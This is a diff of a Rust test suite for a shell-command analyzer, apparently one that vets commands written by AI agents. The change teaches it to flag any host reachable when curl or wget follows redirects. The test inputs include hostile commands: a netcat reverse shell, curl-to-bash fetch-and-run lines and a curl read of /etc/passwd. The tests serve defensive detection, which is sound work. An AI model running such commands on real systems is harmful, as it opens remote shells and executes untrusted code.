@@ -360,7 +360,7 @@ fn urls_and_ports() {
     check("curl -F 'f=@/a;type=x' http://h/", "curl(<-F> <f=@/a;type=x> <http://h/>) r=</a> h=<h>");
     check(
         "curl -sSL -O https://h.example/a/b.tar.gz",
-        "curl(<-sSL> <-O> <https://h.example/a/b.tar.gz>) w=<b.tar.gz> h=<h.example>",
+        "curl(<-sSL> <-O> <https://h.example/a/b.tar.gz>) w=<b.tar.gz> h=<h.example> h=<*>",
     );
     check("curl -K /cfg", "curl(<-K> </cfg>) !HostUnknown !StartsPrograms");
     check(
@@ -369,9 +369,23 @@ fn urls_and_ports() {
     );
     check("curl file:///etc/passwd", "curl(<file:///etc/passwd>) r=</etc/passwd>");
     check("curl \"$URL\"", "curl(<?>) h=<?> !ArgumentUnknown !HostUnknown");
-    check("wget https://h/x/y.tgz", "wget(<https://h/x/y.tgz>) w=<y.tgz> h=<h>");
-    check("wget -O - https://h/x", "wget(<-O> <-> <https://h/x>) h=<h>");
-    check("wget -O /tmp/z https://h/x", "wget(<-O> </tmp/z> <https://h/x>) w=</tmp/z> h=<h>");
+    check("wget https://h/x/y.tgz", "wget(<https://h/x/y.tgz>) w=<y.tgz> h=<*> h=<h>");
+    check("wget -O - https://h/x", "wget(<-O> <-> <https://h/x>) h=<*> h=<h>");
+    check("wget -O /tmp/z https://h/x", "wget(<-O> </tmp/z> <https://h/x>) w=</tmp/z> h=<*> h=<h>");
+    check("wget -O- --max-redirect=0 h", "wget(<-O-> <--max-redirect=0> <h>) h=<h>");
+    check("curl --location h", "curl(<--location> <h>) h=<h> h=<*>");
+    check("curl --location-trusted h", "curl(<--location-trusted> <h>) h=<h> h=<*>");
+    check("curl -L --max-redirs 0 h", "curl(<-L> <--max-redirs> <0> <h>) h=<h>");
+    check(
+        "curl -L --max-redirs 0 h --max-redirs 1",
+        "curl(<-L> <--max-redirs> <0> <h> <--max-redirs> <1>) h=<h> h=<*>",
+    );
+    check(
+        "curl -L --max-redirs 0 h --next -L g",
+        "curl(<-L> <--max-redirs> <0> <h> <--next> <-L> <g>) h=<h> h=<g> h=<*>",
+    );
+    check("wget --max-redirect=\"$x\" -O- h", "wget(<?--max-redirect=> <-O-> <h>) h=<*> h=<h>");
+    check("wget -N http://h/x", "wget(<-N> <http://h/x>) w=<x> h=<*> h=<h> !MakesLinks");
     check("wget -i /list", "wget(<-i> </list>) r=</list> !ArgumentsFromInput");
     check("nc -e /bin/sh 1.2.3.4 99", "nc(<-e> </bin/sh> <1.2.3.4> <99>) h=<1.2.3.4>:99 !StartsPrograms");
     check("nc 1.2.3.4 99", "nc(<1.2.3.4> <99>) h=<1.2.3.4>:99");
@@ -635,7 +649,7 @@ fn more_lines_as_agents_write_them() {
     check("cat <<E|sh -s\nrm /q\nE", "cat() <<Some(\"rm /q\\n\") sh(<-s>) !CodeFromInput");
     check(
         "bash -c \"$(curl -fsSL https://h/i.sh)\"",
-        "bash(<-c> <?>) curl(<-fsSL> <https://h/i.sh>) h=<h> !ArgumentUnknown !InlineCode",
+        "bash(<-c> <?>) curl(<-fsSL> <https://h/i.sh>) h=<h> h=<*> !ArgumentUnknown !InlineCode",
     );
     check(
         "bash <(curl -s https://h/i.sh)",
@@ -813,7 +827,7 @@ fn variables_that_bash_evaluates_or_programs_get_are_opaque() {
     check("LC_ALL=ja_JP.SJIS sort /a", "LC_ALL=<ja_JP.SJIS> sort(</a>) r=</a> !Environment");
     check("LC_ALL=ja_JP.SJIS", "LC_ALL=<ja_JP.SJIS> -() !Environment");
     check("FOO=1", "FOO=<1> -()");
-    check("WGETRC=/x wget h", "WGETRC=</x> wget(<h>) w=<index.html> h=<h> !Environment");
+    check("WGETRC=/x wget h", "WGETRC=</x> wget(<h>) w=<index.html> h=<*> h=<h> !Environment");
     check("env TZ=UTC date", "env(<TZ=UTC> <date>) date()");
     check("sudo FOO=1 cat /a", "sudo(<FOO=1> <cat> </a>) cat(</a>)/root r=</a> !Environment");
     check("export FOO", "export(<FOO>) !Environment");
